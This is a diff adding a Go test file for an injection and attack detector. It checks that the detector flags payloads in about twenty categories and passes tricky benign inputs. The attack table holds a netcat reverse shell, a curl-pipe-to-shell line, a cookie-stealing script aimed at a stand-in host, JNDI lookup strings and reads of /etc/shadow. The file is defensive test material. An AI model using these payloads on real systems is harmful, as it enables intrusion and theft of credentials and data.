@@ -1,0 +1,415 @@
+package detect
+
+import (
+	"context"
+	"errors"
+	"log/slog"
+	"strings"
+	"sync"
+	"testing"
+)
+
+func newTestDetector(t testing.TB) *Detector {
+	t.Helper()
+	d, err := New(Config{Logger: slog.New(slog.DiscardHandler)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return d
+}
+
+// attackCases are written from attack grammar, one or more per category; none is
+// copied from the corpus.
+var attackCases = []struct {
+	category, where, in string
+}{
+	{"sqli", "query:id", "42' OR 'x'='x"},
+	{"sqli", "query:id", "7 UNION ALL SELECT username, password FROM accounts--"},
+	{"sqli", "query:id", "3; DROP TABLE invoices"},
+	{"sqli", "query:q", "x') AND SLEEP(5)-- -"},
+	{"sqli", "query:q", "1 AND 1=1"},
+	{"sqli", "cookie:sid", "abc' AND extractvalue(1,concat(0x7e,(SELECT version())))-- "},
+	{"sqli", "query:q", "1%27%20or%20%271%27%3D%271"},
+	{"sqli", "query:q", "1/**/UNION/**/SELECT/**/null,null"},
+	{"sqli", "query:q", "admin'--"},
+	{"sqli", "query:q", "'; EXEC xp_cmdshell('dir')--"},
+	{"xss", "query:q", "<script>fetch('//x.test/'+document.cookie)</script>"},
+	{"xss", "query:q", `<img src=x onerror=alert(1)>`},
+	{"xss", "query:q", `"><svg/onload=confirm(9)>`},
+	{"xss", "query:q", `javascript:alert(document.domain)`},
+	{"xss", "query:q", `' autofocus onfocus='alert(7)`},
+	{"xss", "body:json", `<iframe srcdoc="<script>parent.x()</script>">`},
+	{"xss", "query:q", `%3Cscript%3Ealert(1)%3C%2Fscript%3E`},
+	{"xss", "query:q", `&lt;img src=1 onerror=prompt(1)&gt;`},
+	{"xss", "query:q", "＜script＞alert(1)＜/script＞"},
+	{"xss", "query:q", `<a href="jav&#x09;ascript:alert(1)">x</a>`},
+	{"cmdi", "query:host", "example.org; cat /etc/passwd"},
+	{"cmdi", "query:host", "8.8.8.8 && whoami"},
+	{"cmdi", "query:host", "x|nc -e /bin/sh 10.0.0.1 4444"},
+	{"cmdi", "query:f", "$(curl http://x.test/s.sh|sh)"},
+	{"cmdi", "query:f", "a;cat${IFS}/etc/shadow"},
+	{"cmdi", "header:User-Agent", "() { :;}; /bin/bash -c 'id'"},
+	{"cmdi", "query:f", "| powershell -enc SQBFAFgA"},
+	{"path_traversal", "query:file", "../../../../etc/passwd"},
+	{"path_traversal", "query:file", "..%2f..%2f..%2fwindows%2fwin.ini"},
+	{"path_traversal", "query:file", "%252e%252e%252f%252e%252e%252fetc%252fshadow"},
+	{"path_traversal", "query:file", "....//....//....//etc/hosts"},
+	{"path_traversal", "query:file", "..\\..\\..\\boot.ini"},
+	{"path_traversal", "path", "/static/..%c0%af..%c0%af..%c0%afetc/passwd"},
+	{"file_inclusion", "query:page", "php://filter/convert.base64-encode/resource=index.php"},
+	{"file_inclusion", "query:page", "http://203.0.113.9/shell.txt?"},
+	{"file_inclusion", "query:page", "file:///etc/passwd"},
+	{"ssrf", "query:url", "http://169.254.169.254/latest/meta-data/iam/"},
+	{"ssrf", "query:url", "http://127.0.0.1:6379/"},
+	{"ssrf", "query:url", "gopher://10.0.0.5:25/_HELO"},
+	{"ssrf", "query:url", "http://[::1]/admin"},
+	{"ssrf", "query:url", "http://2130706433/"},
+	{"xxe", "body:xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>`},
+	{"xxe", "body:xml", `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></r>`},
+	{"ldap", "query:user", "*)(uid=*))(|(uid=*"},
+	{"ldap", "query:user", "admin)(&(objectClass=*)"},
+	{"nosql", "query-key", "password[$ne]"},
+	{"nosql", "body:json", `{"user":"a","pass":{"$gt":""}}`},
+	{"nosql", "query:q", "'; return true; var x='"},
+	{"ssti", "query:name", "{{7*7}}"},
+	{"ssti", "query:name", "{{ ''.__class__.__mro__[1].__subclasses__() }}"},
+	{"ssti", "query:name", "${T(java.lang.Runtime).getRuntime().exec('id')}"},
+	{"ssti", "query:name", `<#assign ex="freemarker.template.utility.Execute"?new()>`},
+	{"code_injection", "query:x", "<?php system($_GET['c']); ?>"},
+	{"code_injection", "header:X-Api-Version", "${jndi:ldap://x.test/a}"},
+	{"code_injection", "header:X-Api-Version", "${${lower:j}ndi:rmi://x.test/a}"},
+	{"code_injection", "query:x", "require('child_process').exec('id')"},
+	{"code_injection", "query:x", "__import__('os').system('id')"},
+	{"deserialization", "cookie:state", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="},
+	{"deserialization", "body:text", `O:8:"stdClass":1:{s:4:"test";s:3:"abc";}`},
+	{"deserialization", "body:text", `!!python/object/apply:os.system ["id"]`},
+	{"crlf", "query:next", "/home%0d%0aSet-Cookie:%20admin=1"},
+	{"crlf", "path", "/a%0d%0aLocation:%20http://x.test"},
+	{"proto_pollution", "query-key", "__proto__[isAdmin]"},
+	{"proto_pollution", "body:json", `{"constructor":{"prototype":{"polluted":1}}}`},
+	{"sensitive_file", "path", "/.git/config"},
+	{"sensitive_file", "query:f", "/proc/self/environ"},
+	{"recon", "header:User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
+	{"recon", "header:User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"},
+	{"ssi", "query:x", `<!--#exec cmd="id" -->`},
+	{"xpath", "query:user", "' or count(//user)=1 or '1'='1"},
+}
+
+// hardBenign are inputs that look like attacks to keyword matchers but are ordinary.
+var hardBenign = []struct{ where, in string }{
+	{"query:q", "select the best option from the list below"},
+	{"body:text", "Please don't drop table tennis from the schedule; we love it."},
+	{"body:text", "We will update the record and then select a new chair from the committee."},
+	{"query:q", "O'Reilly"},
+	{"query:q", "Rock 'n' roll and the union of two sets"},
+	{"body:text", `Install to C:\Program Files\Acme\bin and restart.`},
+	{"body:text", `Windows paths look like C:\Windows\System32\drivers and D:\Users\me\Documents.`},
+	{"body:text", "```go\nfunc main() {\n\tfmt.Println(\"hi\")\n}\n```"},
+	{"body:text", "To list files use `ls -la`, then `cd ..` to go up."},
+	{"query:q", "1=1"},
+	{"query:q", "if a < b > c then swap"},
+	{"query:q", "x <= y && y >= z"},
+	{"query:q", "2 + 2 = 4, and 3 * 3 = 9"},
+	{"query:email", "jane.o'connor+news@example.co.uk"},
+	{"query:next", "https://example.com/path?a=1&b=2#frag"},
+	{"body:json", `{"name":"Widget","tags":["a","b"],"price":12.5,"nested":{"ok":true}}`},
+	{"body:text", "Hello {{name}}, your order #{{order_id}} ships today."},
+	{"body:text", "Use the ../images folder for assets."},
+	{"header:User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"},
+	{"header:User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"},
+	{"header:Referer", "https://www.example.org/search?q=select+from+where"},
+	{"query:q", "cats & dogs; birds | fish"},
+	{"query:q", "Tom & Jerry; the cat food"},
+	{"body:text", "The sleep(8 hours) rule is recommended by doctors."},
+	{"body:text", "Q&A: what does 'or' mean? It is a conjunction."},
+	{"query:q", "100% cotton -- machine wash"},
+	{"body:text", "# Title\n\nSome *markdown* with a [link](https://example.com) and `code`."},
+	{"body:text", "In SQL you write SELECT name FROM users WHERE id = 1 to fetch a row."},
+	{"query:q", "price > 100 and rating >= 4"},
+	{"query:q", "C++ & C# developers"},
+	{"query:q", "Dear team, thanks!"},
+	{"body:text", "Call me at +1 (555) 010-9999; office hours 9-5."},
+	{"query:tz", "Europe/Paris"},
+	{"query:q", "how to exit vim :wq"},
+	{"body:text", "The function f(x) = x^2 + 1 has no real roots when (a)(b) < 0."},
+	{"body:text", "Reference: RFC 3986 section 3.3 (path segments like ./ and ../ are removed)."},
+	{"query:q", "null"},
+	{"query:q", "true"},
+	{"cookie:prefs", "theme=dark|lang=en"},
+}
+
+func TestDetectAttacks(t *testing.T) {
+	d := newTestDetector(t)
+	for _, tc := range attackCases {
+		t.Run(tc.category+"/"+tc.in, func(t *testing.T) {
+			r := d.Detect(context.Background(), tc.in, tc.where)
+			if !r.IsThreat {
+				t.Fatalf("not detected (score %.2f, threats %+v)", r.ThreatScore, r.Threats)
+			}
+			if len(r.Threats) == 0 || r.Threats[0].Location != tc.where {
+				t.Fatalf("threat location = %+v, want %q", r.Threats, tc.where)
+			}
+			found := false
+			for _, th := range r.Threats {
+				if th.Category == tc.category {
+					found = true
+				}
+			}
+			if !found {
+				t.Errorf("no %s evidence in %+v", tc.category, r.Threats)
+			}
+		})
+	}
+}
+
+func TestDetectHardBenign(t *testing.T) {
+	d := newTestDetector(t)
+	for _, tc := range hardBenign {
+		t.Run(tc.in, func(t *testing.T) {
+			r := d.Detect(context.Background(), tc.in, tc.where)
+			if r.IsThreat {
+				t.Fatalf("flagged: score %.2f %+v", r.ThreatScore, r.Threats)
+			}
+		})
+	}
+}
+
+func TestDetectResultFields(t *testing.T) {
+	d := newTestDetector(t)
+	in := "1 UNION SELECT password FROM users--"
+	r := d.Detect(context.Background(), in, "query:id")
+	if !r.IsThreat || r.Category != "sqli" || r.ThreatScore < 0.7 || r.ThreatScore > 1 {
+		t.Fatalf("got %+v", r)
+	}
+	if r.Context != "query:id" || r.OriginalLength != len(in) || r.ProcessedLength == 0 || r.Elapsed <= 0 {
+		t.Fatalf("metadata: %+v", r)
+	}
+	th := r.Threats[0]
+	if th.Type != "regex" && th.Type != "libinjection" && th.Type != "semantic" {
+		t.Fatalf("type %q", th.Type)
+	}
+	if th.Match == "" || len(th.Match) > 100 {
+		t.Fatalf("match excerpt %q", th.Match)
+	}
+	clean := d.Detect(context.Background(), "hello world", "query:q")
+	if clean.IsThreat || clean.ThreatScore != 0 || len(clean.Threats) != 0 {
+		t.Fatalf("clean: %+v", clean)
+	}
+}
+
+func TestExcerptEscapesControlBytes(t *testing.T) {
+	d := newTestDetector(t)
+	r := d.Detect(context.Background(), "/x%0d%0aSet-Cookie: a=1", "path")
+	if !r.IsThreat {
+		t.Fatal("not detected")
+	}
+	for _, th := range r.Threats {
+		if strings.ContainsAny(th.Match, "\r\n") {
+			t.Fatalf("raw CR/LF in excerpt %q", th.Match)
+		}
+	}
+}
+
+func TestContexts(t *testing.T) {
+	d := newTestDetector(t)
+	ctx := context.Background()
+	// Scanner names count in the User-Agent, not in a search box.
+	if !d.Detect(ctx, "sqlmap/1.8", "header:User-Agent").IsThreat {
+		t.Error("scanner UA not detected")
+	}
+	if d.Detect(ctx, "sqlmap/1.8", "query:q").IsThreat {
+		t.Error("scanner name flagged in a query")
+	}
+	// Referer carries URLs; SSRF patterns do not apply to headers.
+	if d.Detect(ctx, "http://127.0.0.1:8080/", "header:Referer").IsThreat {
+		t.Error("loopback Referer flagged")
+	}
+	if !d.Detect(ctx, "http://127.0.0.1:8080/", "query:url").IsThreat {
+		t.Error("loopback URL parameter not flagged")
+	}
+	// Multi-line text bodies are normal; a header with CR/LF is not.
+	if d.Detect(ctx, "line one\nline two\n\nthree", "body:text").IsThreat {
+		t.Error("multi-line body flagged")
+	}
+	if !d.Detect(ctx, "a\r\nX-Injected: 1", "header:X-Forwarded-Host").IsThreat {
+		t.Error("CRLF in header not flagged")
+	}
+}
+
+func TestThreshold(t *testing.T) {
+	ctx := context.Background()
+	// alert('x') alone is weak evidence (0.5): a threat only with a low threshold.
+	in := "see alert('x') in the code"
+	low, err := New(Config{SemanticThreshold: 0.4})
+	if err != nil {
+		t.Fatal(err)
+	}
+	high, err := New(Config{SemanticThreshold: 0.99})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !low.Detect(ctx, in, "query:q").IsThreat {
+		t.Error("threshold 0.4: not a threat")
+	}
+	if high.Detect(ctx, in, "query:q").IsThreat {
+		t.Error("threshold 0.99: threat")
+	}
+	if _, err := New(Config{SemanticThreshold: 1.5}); err == nil {
+		t.Error("threshold 1.5 accepted")
+	}
+}
+
+func TestCustomPatterns(t *testing.T) {
+	d := newTestDetector(t)
+	ctx := context.Background()
+	if err := d.AddPattern(Pattern{ID: "bad", Category: "custom", Regex: "(unclosed"}); !errors.Is(err, ErrInvalidPattern) {
+		t.Fatalf("bad regex: err = %v", err)
+	}
+	if err := d.AddPattern(Pattern{ID: "lookaround", Category: "custom", Regex: "a(?=b)"}); !errors.Is(err, ErrInvalidPattern) {
+		t.Fatalf("look-ahead: err = %v", err)
+	}
+	if err := d.AddPattern(Pattern{ID: "w", Category: "custom", Regex: "x", Weight: 2}); !errors.Is(err, ErrInvalidPattern) {
+		t.Fatalf("weight 2: err = %v", err)
+	}
+	if err := d.AddPattern(Pattern{ID: "c", Category: "custom", Regex: "x", Contexts: []string{"nowhere"}}); !errors.Is(err, ErrInvalidPattern) {
+		t.Fatalf("bad context: err = %v", err)
+	}
+	if err := d.AddPattern(Pattern{ID: "sqli-union-select", Category: "custom", Regex: "x"}); !errors.Is(err, ErrInvalidPattern) {
+		t.Fatalf("duplicate built-in id: err = %v", err)
+	}
+	if d.Detect(ctx, "order for ACME-INTERNAL-7", "query:q").IsThreat {
+		t.Fatal("threat before the pattern exists")
+	}
+	p := Pattern{ID: "internal-code", Category: "custom", Regex: `\bacme-internal-\d+\b`, Contexts: []string{"query"}}
+	if err := d.AddPattern(p); err != nil {
+		t.Fatal(err)
+	}
+	r := d.Detect(ctx, "order for ACME-INTERNAL-7", "query:q")
+	if !r.IsThreat || r.Threats[0].Pattern != "internal-code" || r.Category != "custom" {
+		t.Fatalf("custom pattern: %+v", r)
+	}
+	if d.Detect(ctx, "order for ACME-INTERNAL-7", "body:text").IsThreat {
+		t.Fatal("custom pattern applied outside its contexts")
+	}
+	if got := d.Patterns(); len(got) != 1 || got[0].ID != "internal-code" || got[0].Weight != 0.9 {
+		t.Fatalf("Patterns() = %+v", got)
+	}
+	var found bool
+	for _, s := range d.Stats() {
+		if s.ID == "internal-code" {
+			found = true
+			if s.Executions == 0 || s.Matches == 0 || !s.Custom {
+				t.Fatalf("stats %+v", s)
+			}
+		}
+	}
+	if !found {
+		t.Fatal("no stats for custom pattern")
+	}
+	if st := d.Status(); st.CustomPatterns != 1 || !st.Healthy || st.BuiltinPatterns < 100 {
+		t.Fatalf("status %+v", st)
+	}
+	if !d.RemovePattern("internal-code") {
+		t.Fatal("RemovePattern = false")
+	}
+	if d.RemovePattern("internal-code") || d.RemovePattern("sqli-union-select") {
+		t.Fatal("removed twice or removed a built-in")
+	}
+	if d.Detect(ctx, "order for ACME-INTERNAL-7", "query:q").IsThreat {
+		t.Fatal("threat after removal")
+	}
+}
+
+func TestConcurrentUseAndUpdates(t *testing.T) {
+	d := newTestDetector(t)
+	ctx := context.Background()
+	var wg sync.WaitGroup
+	for g := 0; g < 4; g++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i := 0; i < 200; i++ {
+				if !d.Detect(ctx, "1' or '1'='1", "query:q").IsThreat {
+					t.Error("missed under concurrency")
+					return
+				}
+			}
+		}()
+	}
+	for i := 0; i < 4; i++ {
+		id := "c" + string(rune('a'+i))
+		if err := d.AddPattern(Pattern{ID: id, Category: "custom", Regex: "zz" + id}); err != nil {
+			t.Fatal(err)
+		}
+		d.RemovePattern(id)
+	}
+	wg.Wait()
+}
+
+func TestBuiltinPatternsCompileWithLiterals(t *testing.T) {
+	ps, err := BuiltinPatterns()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cats := map[string]int{}
+	for _, p := range ps {
+		c, err := compilePattern(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if c.always {
+			t.Errorf("%s: no prefilter literal: it would run on every value", p.ID)
+		}
+		if p.Description == "" && p.Weight >= 0.7 {
+			// Strong patterns must say what they match.
+			t.Logf("%s: no description", p.ID)
+		}
+		cats[p.Category]++
+	}
+	for _, c := range Categories() {
+		if cats[c] == 0 {
+			t.Errorf("category %s has no pattern", c)
+		}
+	}
+}
+
+// TestSplitMatchesFullRegex checks the literal-anchored matching against the plain
+// regex on every attack and benign case: both must agree on whether there is a match.
+func TestSplitMatchesFullRegex(t *testing.T) {
+	ps, err := BuiltinPatterns()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var inputs []string
+	for _, tc := range attackCases {
+		inputs = append(inputs, Normalize(tc.in))
+	}
+	for _, tc := range hardBenign {
+		inputs = append(inputs, Normalize(tc.in))
+	}
+	inputs = append(inputs, "xconcat(1)", "concat (a)", "an sqlmap run", "left(1,2)", "Left (1)")
+	for _, p := range ps {
+		c, err := compilePattern(p)
+		if err != nil || !c.split {
+			continue
+		}
+		rs := &ruleset{pats: []*compiled{c}, catIdx: map[string]int{c.Category: 0}, cats: []string{c.Category}}
+		for _, l := range c.Literals {
+			rs.litPats = append(rs.litPats, []int32{0})
+			rs.litLen = append(rs.litLen, int32(len(l)))
+		}
+		rs.ac = newACMatcher(c.Literals)
+		for _, in := range inputs {
+			s := &scratch{}
+			s.reset(rs)
+			rs.ac.scan(in, func(lit int32, end int) {
+				s.starts = append(s.starts, litStart{0, int32(end) - rs.litLen[lit], rs.litLen[lit]})
+			})
+			loc, _ := s.anchoredMatch(c, 0, in)
+			full := c.re.FindStringIndex(in)
+			if (loc != nil) != (full != nil) {
+				t.Errorf("%s on %q: split=%v full=%v", p.ID, in, loc, full)
+			}
+		}
+	}
+}
